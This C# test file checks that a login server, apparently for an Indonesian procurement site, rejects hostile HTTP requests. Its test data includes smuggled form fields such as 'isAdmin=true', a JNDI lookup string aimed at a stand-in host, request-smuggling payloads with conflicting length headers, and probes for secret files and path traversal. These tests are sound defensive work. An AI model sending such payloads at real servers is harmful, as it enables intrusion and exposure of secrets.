using System.Diagnostics;
using System.Net;
using System.Text;
using Gapura.Storage;
using Gapura.Testing;

namespace Gapura.Server.Tests.Http;

/// <summary>O-01 to O-04: requests that no page of ours would send.</summary>
public sealed class StrictRequestTests
{
    [Fact]
    [Trait("Clause", "O-01")]
    public async Task A_field_twice_in_two_places_as_a_list_or_unknown_is_refused_and_no_code_is_used_by_it()
    {
        await using var scene = await Scene.SignedInAsync();
        scene.Gapura.Time.Advance(TimeSpan.FromSeconds(30));
        using var browser = scene.Gapura.NewVisitor();
        var page = await browser.SignInWithPasswordAsync(scene.Person);
        var code = scene.Gapura.CodeOf(scene.Secret);
        var (action, _, fields) = page.Form("Login", ("code", code));
        (string, string)[] without = [.. fields.Where(field => field.Name != "code")];
        (string Path, (string, string)[] Fields)[] tricks =
        [
            (action, [.. fields, ("code", "000000")]),
            (action, [("code", "000000"), .. fields]),
            ($"{action}?code={code}", fields),
            ($"{action}?Code=000000", fields),
            (action, [.. without, ("code[]", code)]),
            (action, [.. without, ("code[0]", code)]),
            (action, [.. fields, ("isAdmin", "true")]),
            (action, [.. fields, ("Code", "000000")]),
            (action, [.. fields, ("", "")]),
        ];
        foreach (var (path, sent) in tricks)
        {
            Assert.Equal(HttpStatusCode.BadRequest, (await browser.PostOnlyAsync(path, sent)).Status);
        }

        Assert.Equal("Beranda", (await browser.SubmitAsync(page, "Login", ("code", code))).Title);
    }

    [Fact]
    [Trait("Clause", "O-01")]
    public async Task A_file_an_endless_body_or_a_strange_alphabet_is_refused_at_once()
    {
        await using var gapura = await RunningGapura.StartAsync(DatabaseKind.Sqlite);
        using var browser = gapura.NewVisitor();
        var page = await browser.GetAsync("/lpse/sign-in?userType=penyedia");
        var token = page.Document.QuerySelector("input[name=formToken]")!.GetAttribute("value")!;
        using var file = new MultipartFormDataContent { { new StringContent(token), "formToken" }, { new ByteArrayContent([1, 2, 3]), "userId", "a.txt" } };
        Assert.Equal(HttpStatusCode.BadRequest, (await browser.SendAsync(new HttpRequestMessage(HttpMethod.Post, "/lpse/sign-in") { Content = file })).Status);
        foreach (var type in (string[])["application/x-www-form-urlencoded; charset=utf-16", "application/x-www-form-urlencoded; charset=utf-7", "multipart/form-data", "multipart/form-data; boundary=", "text/html", "application/xml"])
        {
            var body = new ByteArrayContent(Encoding.UTF8.GetBytes($"formToken={token}&userType=penyedia&userId=pp20"));
            body.Headers.TryAddWithoutValidation("Content-Type", type);
            var reply = await browser.SendAsync(new HttpRequestMessage(HttpMethod.Post, "/lpse/sign-in") { Content = body });
            Assert.True(reply.Status is HttpStatusCode.BadRequest or HttpStatusCode.Forbidden, $"{type}: {reply.Status}");
        }

        var began = Stopwatch.GetTimestamp();
        var head = $"POST /lpse/sign-in HTTP/1.1\nHost: localhost\nCookie: __Host-gapura-browser={browser.Cookies["__Host-gapura-browser"]}\nContent-Type: application/x-www-form-urlencoded\nConnection: close\n";
        var announced = await RawHttp.SendAsync(gapura.Address, $"{head}Content-Length: 10485760\n\nformToken={token}&userId=" + new string('a', 100_000));
        Assert.Contains(RawHttp.StatusOf(announced), (int[])[400, 413]);
        var chunked = await RawHttp.SendAsync(gapura.Address, $"{head}Transfer-Encoding: chunked\n\n" + string.Concat(Enumerable.Repeat($"4000\n{new string('a', 0x4000)}\n", 8)) + "0\n\n");
        Assert.Contains(RawHttp.StatusOf(chunked), (int[])[0, 400, 413]);
        Assert.True(Stopwatch.GetElapsedTime(began) < TimeSpan.FromSeconds(10), "Refusing took long.");
        Assert.Equal(HttpStatusCode.OK, (await browser.GetAsync("/lpse/")).Status);
    }

    [Fact]
    [Trait("Clause", "O-01")]
    [Trait("Clause", "L-07")]
    public async Task Text_that_a_database_cannot_hold_is_refused_not_failed_on()
    {
        await using var gapura = await RunningGapura.StartAsync(DatabaseKind.Postgres);
        using var browser = gapura.NewVisitor();
        foreach (var path in (string[])["/lpse/reset", "/lpse/password/forgot"])
        {
            foreach (var odd in (string[])["\0", "a\0b", "\uFFFF", "\u202E", new string('x', 5000), "%00", "${jndi:ldap://jahat.example}"])
            {
                foreach (var field in (string[])["captchaId", "captcha", "userId", "email", "userType"])
                {
                    var page = await browser.GetAsync(path);
                    var reply = await browser.SubmitAsync(page, "Kirim", ("userId", "pp20"), ("email", "a@contoh.example"), ("captcha", "xxxxxx"), (field, odd));
                    Assert.True(reply.Status is HttpStatusCode.UnprocessableEntity or HttpStatusCode.BadRequest, $"{path} {field} {Uri.EscapeDataString(odd)}: {reply.Status}");
                }
            }
        }
    }

    [Fact]
    [Trait("Clause", "O-01")]
    [Trait("Clause", "L-07")]
    public async Task Headers_without_measure_and_lines_that_are_no_HTTP_are_refused_without_a_word_about_the_server()
    {
        await using var gapura = await RunningGapura.StartAsync(DatabaseKind.Sqlite);
        foreach (var request in (string[])
        [
            $"GET /lpse/ HTTP/1.1\nHost: localhost\nX-Big: {new string('a', 20_000)}\nConnection: close\n\n",
            $"GET /lpse/ HTTP/1.1\nHost: localhost\n{string.Concat(Enumerable.Range(0, 200).Select(i => $"X-{i}: a\n"))}Connection: close\n\n",
            $"GET /lpse/{new string('a', 20_000)} HTTP/1.1\nHost: localhost\nConnection: close\n\n",
            "GET /lpse/%00 HTTP/1.1\nHost: localhost\nConnection: close\n\n",
            "GET /lpse/ HTTP/9.9\nHost: localhost\nConnection: close\n\n",
            "SAYA INGIN MASUK\n\n",
            "POST /lpse/sign-in HTTP/1.1\nHost: localhost\nContent-Length: 5\nTransfer-Encoding: chunked\nConnection: close\n\n0\n\nGET /lpse/ HTTP/1.1\n\n",
            "POST /lpse/sign-in HTTP/1.1\nHost: localhost\nContent-Length: 5\nContent-Length: 6\nConnection: close\n\nabcde",
            "POST /lpse/sign-in HTTP/1.1\nHost: localhost\nTransfer-Encoding: xchunked\nConnection: close\n\n0\n\n",
        ])
        {
            var answer = await RawHttp.SendAsync(gapura.Address, request);
            Assert.InRange(RawHttp.StatusOf(answer), 400, 505);
            Assert.NotInRange(RawHttp.StatusOf(answer), 500, 504);
            Assert.DoesNotContain("Kestrel", answer, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("Server:", answer, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    [Trait("Clause", "O-02")]
    public async Task Methods_that_an_address_does_not_have_are_refused_and_TRACE_echoes_nothing()
    {
        await using var scene = await Scene.SignedInAsync();
        var before = await scene.StateAsync();
        var gets = Routes.Of(scene.Gapura, "GET");
        var posts = Routes.Of(scene.Gapura, "POST");
        foreach (var route in gets.Union(posts))
        {
            foreach (var method in (string[])["TRACE", "TRACK", "PUT", "PATCH", "DELETE", "OPTIONS", "CONNECT-X", "PROPFIND", "post"])
            {
                var request = new HttpRequestMessage(new HttpMethod(method), route);
                request.Headers.TryAddWithoutValidation("X-Gema", "gema-rahasia");
                var reply = await scene.Browser.SendAsync(request);
                Assert.True((int)reply.Status is >= 400 and < 500, $"{method} {route}: {(int)reply.Status}");
                Assert.DoesNotContain("gema-rahasia", reply.Html, StringComparison.Ordinal);
            }
        }

        Assert.All(posts.Except(gets), route => Assert.DoesNotContain(route, gets));
        Assert.Equal(before, await scene.StateAsync());
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    [Trait("Clause", "O-03")]
    // /openapi/v1.json is for those who integrate, and says no more than docs/integrate does.
    public async Task Nothing_for_developers_or_operators_is_to_be_found(bool demo)
    {
        await using var gapura = await RunningGapura.StartAsync(DatabaseKind.Sqlite, demo: demo);
        using var browser = gapura.NewVisitor();
        foreach (var path in (string[])
        [
            "/swagger", "/swagger/index.html", "/openapi.json", "/metrics", "/health", "/healthz", "/health/details", "/debug", "/trace", "/env", "/actuator",
            "/.git/config", "/.env", "/appsettings.json", "/gapura.db", "/keys.json", "/demo.json", "/gapura.json", "/elmah.axd", "/server-status", "/_framework/blazor.web.js", "/_blazor",
            "/robots.txt.bak", "/assets/", "/assets/%2e%2e/keys.json", "/assets/..%2fkeys.json", "/admin/", "/lpse/admin",
        ])
        {
            var reply = await browser.SendAsync(new HttpRequestMessage(HttpMethod.Get, path));
            Assert.True(reply.Status == HttpStatusCode.NotFound, $"{path}: {reply.Status}");
        }

        foreach (var path in (string[])["/demo/outbox", "/demo/captcha?id=x"])
        {
            var reply = await browser.SendAsync(new HttpRequestMessage(HttpMethod.Get, path));
            Assert.Equal(demo && path == "/demo/outbox" ? HttpStatusCode.OK : HttpStatusCode.NotFound, reply.Status);
        }

        Assert.Equal("live", (await browser.GetAsync("/health/live")).Html);
        Assert.Equal("ready", (await browser.GetAsync("/health/ready")).Html);
    }
}
